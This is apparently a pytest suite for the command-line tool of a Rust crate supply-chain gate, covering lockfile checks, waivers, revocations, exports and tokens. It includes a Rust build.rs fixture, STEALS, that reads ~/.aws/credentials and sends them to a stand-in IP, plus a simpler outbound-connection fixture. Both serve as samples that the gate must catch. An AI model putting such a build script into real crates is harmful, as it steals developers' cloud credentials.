"""What people do from a terminal, against a gate that runs."""

from __future__ import annotations

import json
import time
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from typer.testing import CliRunner, Result

from gate.cli import app

if TYPE_CHECKING:
    from tests.gate.conftest import Live

FETCHES = 'fn main() { let _ = std::net::TcpStream::connect("203.0.113.9:80"); }\n'
STEALS = """use std::io::Write;
fn main() {
    let key = std::fs::read("/home/u/.aws/credentials").unwrap();
    let mut to = std::net::TcpStream::connect("198.51.100.7:443").unwrap();
    to.write_all(&key).unwrap();
}
"""
IO = "registry+https://github.com/rust-lang/crates.io-index"


def run(live: Live, *arguments: str, code: int = 0) -> str:
    """Output of a command on this gate's store."""
    done = CliRunner().invoke(app, [*arguments, "--data", str(live.gate.settings.data_dir)])
    return checked(done, code)


def checked(done: Result, code: int) -> str:
    assert done.exit_code == code, (done.output, done.exception)
    return done.output


def lock(folder: Path, *packages: tuple[str, str, str, str]) -> Path:
    """A Cargo.lock of (name, version, source, checksum)."""
    text = 'version = 4\n\n[[package]]\nname = "own"\nversion = "0.1.0"\n'
    for name, version, source, checksum in packages:
        text += f'\n[[package]]\nname = "{name}"\nversion = "{version}"\nsource = "{source}"\n'
        text += f'checksum = "{checksum}"\n' if checksum else ""
    path = folder / "Cargo.lock"
    path.write_text(text)
    return path


def check(live: Live, path: Path, *arguments: str, code: int) -> str:
    return checked(
        CliRunner().invoke(app, ["check", str(path), "--gate", live.url, *arguments]), code
    )


def test_check_names_what_leads_past_the_gate(live: Live, tmp_path: Path) -> None:
    fine = live.publish("in-order", "1.0.0")
    path = lock(tmp_path, ("in-order", "1.0.0", IO, fine))
    (tmp_path / "Cargo.toml").write_text('[package]\nname = "own"\nversion = "0.1.0"\n')
    config = tmp_path / ".cargo/config.toml"
    config.parent.mkdir()
    gate = f'[registries.gate]\nindex = "sparse+{live.url}index/"\n'
    config.write_text(f'[source.crates-io]\nreplace-with = "gate"\n{gate}')
    assert "PAST" not in check(live, path, code=0)
    for text, words in (
        ('paths = ["../other"]', "paths: folders stand in"),
        ('[patch.crates-io]\nfoo = { path = "foo" }', "[patch]: what it names"),
        (
            '[source.crates-io]\nreplace-with = "v"\n[source.v]\ndirectory = "vendor"',
            "source v: a directory",
        ),
        (
            '[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "sparse+https://m.invalid/"',
            "source m: sparse+https://m.invalid/",
        ),
    ):
        config.write_text(f"{text}\n{gate}")
        said = check(live, path, code=10)
        assert f"PAST THE GATE .cargo/config.toml: {words}" in said
        assert "1 packages: 1 served" in said
    config.unlink()
    with (tmp_path / "Cargo.toml").open("a") as file:
        file.write('[patch.crates-io]\nfoo = { git = "https://m.invalid/foo" }\n')
    assert "PAST THE GATE Cargo.toml: [patch]" in check(live, path, code=10)


def test_trouble_with_one_package_is_no_trouble_with_all(live: Live, tmp_path: Path) -> None:
    fine = live.publish("still-fine", "1.0.0")
    live.upstream.say("/br/ok/broken-index", 502, times=99)
    path = lock(
        tmp_path, ("still-fine", "1.0.0", IO, fine), ("broken-index", "1.0.0", IO, "ab" * 32)
    )
    said = check(live, path, code=30)
    assert "UNKNOWN broken-index 1.0.0: " in said
    assert "2 packages: 1 unknown, 1 served" in said


def test_check_tells_of_all_that_is_refused_at_once(live: Live, tmp_path: Path) -> None:
    fine = live.publish("fine-one", "1.0.0")
    thief = live.publish("bad-one", "1.0.0", {"build.rs": STEALS})
    odd = live.publish("odd-one", "1.0.0", {"build.rs": FETCHES})
    path = lock(
        tmp_path,
        ("fine-one", "1.0.0", IO, fine),
        ("bad-one", "1.0.0", IO, thief),
        ("odd-one", "1.0.0", IO, odd),
        ("gone-one", "1.0.0", IO, "ab" * 32),
    )
    text = check(live, path, code=20)
    assert "DENIED bad-one 1.0.0: BLOCK" in text
    assert "HELD odd-one 1.0.0 (not yanked): REVIEW" in text
    assert "UNKNOWN gone-one 1.0.0" in text
    assert "4 packages: 1 denied, 1 unknown, 1 held, 1 served" in text
    rows = json.loads(check(live, path, "--format", "json", code=20))["packages"]
    assert {one["name"]: one["outcome"] for one in rows}["fine-one"] == "serve"


def test_check_names_what_goes_around_the_gate(live: Live, tmp_path: Path) -> None:
    sha256 = live.publish("through", "1.0.0")
    path = lock(
        tmp_path,
        ("through", "1.0.0", IO, sha256),
        ("from-git", "1.0.0", "git+https://forge.example.invalid/x#abcdef", ""),
        ("elsewhere", "1.0.0", "sparse+https://other.example.invalid/index/", "ab" * 32),
        ("no-checksum", "1.0.0", IO, ""),
    )
    text = check(live, path, code=10)
    for name in ("from-git", "elsewhere", "no-checksum"):
        assert f"PAST THE GATE {name} 1.0.0" in text


def test_warm_reads_before_anybody_asks(live: Live, tmp_path: Path) -> None:
    sha256 = live.publish("warmed", "1.0.0")
    path = lock(tmp_path, ("warmed", "1.0.0", IO, sha256))
    done = CliRunner().invoke(app, ["warm", str(path), "--gate", live.url])
    assert checked(done, 0) == "1 serve\n"
    assert live.upstream.paths().count("/dl/warmed/1.0.0/download") == 1
    assert live.archive("warmed", "1.0.0", sha256).status == 200
    assert live.upstream.paths().count("/dl/warmed/1.0.0/download") == 1


def test_a_waiver_goes_its_way_and_the_running_gate_hears_of_it(live: Live) -> None:
    sha256 = live.publish("asked-for", "1.0.0", {"build.rs": FETCHES})
    assert live.archive("asked-for", "1.0.0", sha256).status == 403
    reason = ("--reason", "the host is a test network of ours")
    text = run(live, "waive", "asked-for@1.0.0", *reason, "--as", "ann")
    number = text.split()[1].rstrip(":")
    done = CliRunner().invoke(
        app, ["approve", number, "--as", "ann", "--data", str(live.gate.settings.data_dir)]
    )
    assert done.exit_code != 0
    assert "approved" in run(live, "approve", number, "--as", "bob")
    wait_for(lambda: live.archive("asked-for", "1.0.0", sha256).status == 200)
    run(live, "withdraw", number, "--as", "ann")
    wait_for(lambda: live.archive("asked-for", "1.0.0", sha256).status == 403)


def test_revoke_and_restore_reach_the_running_gate(live: Live) -> None:
    sha256 = live.publish("recalled", "1.0.0")
    assert live.archive("recalled", "1.0.0", sha256).status == 200
    wait_for(lambda: bool(live.gate.store.who_got("recalled")))
    text = run(live, "revoke", "recalled@1.0.0", "--reason", "seen in an incident")
    assert "1 clients got it" in text
    wait_for(lambda: live.archive("recalled", "1.0.0", sha256).status == 403)
    assert "recalled" not in run(live, "who-got", "recalled@2.0.0")
    assert "127.0.0.1" in run(live, "who-got", "recalled")
    run(live, "restore", "recalled@1.0.0", "--reason", "was another crate")
    wait_for(lambda: live.archive("recalled", "1.0.0", sha256).status == 200)


def test_export_is_what_other_tools_read(live: Live) -> None:
    sha256 = live.publish("exported", "1.0.0", {"build.rs": STEALS})
    assert live.archive("exported", "1.0.0", sha256).status == 403
    deny = tomllib.loads(run(live, "export"))
    assert any(one["crate"] == "exported@1.0.0" for one in deny["bans"]["deny"])
    vet = tomllib.loads(run(live, "export", "--format", "cargo-vet"))
    assert vet["audits"]["exported"][0]["violation"] == "=1.0.0"


def test_tokens_are_made_listed_and_ended(live: Live) -> None:
    text = run(live, "token", "make", "build-farm").strip()
    assert text.startswith("csg_")
    assert "build-farm: read" in run(live, "token", "list")
    run(live, "token", "end", "build-farm")
    assert "ended" in run(live, "token", "list")


def test_the_audit_log_tells_all_of_it_and_is_whole(live: Live) -> None:
    sha256 = live.publish("logged", "1.0.0")
    assert live.archive("logged", "1.0.0", sha256).status == 200
    assert f"serve crates-io logged 1.0.0 {sha256}" in run(live, "audit")


def test_status_counts(live: Live) -> None:
    done = CliRunner().invoke(app, ["status", "--gate", live.url])
    assert "releases" in checked(done, 0)


@pytest.mark.parametrize("command", ["waive", "revoke"])
def test_nothing_is_decided_about_what_nobody_saw(live: Live, command: str) -> None:
    data = str(live.gate.settings.data_dir)
    done = CliRunner().invoke(app, [command, "never@1.0.0", "--reason", "x" * 20, "--data", data])
    assert done.exit_code != 0


def test_a_folder_without_a_gate_is_said(tmp_path: Path) -> None:
    done = CliRunner().invoke(app, ["token", "list", "--data", str(tmp_path / "none")])
    assert done.exit_code != 0
    assert not (tmp_path / "none").exists()


def wait_for(is_so: Callable[[], bool], seconds: float = 30.0) -> None:
    deadline = time.monotonic() + seconds
    while not is_so():
        assert time.monotonic() < deadline
        time.sleep(0.1)
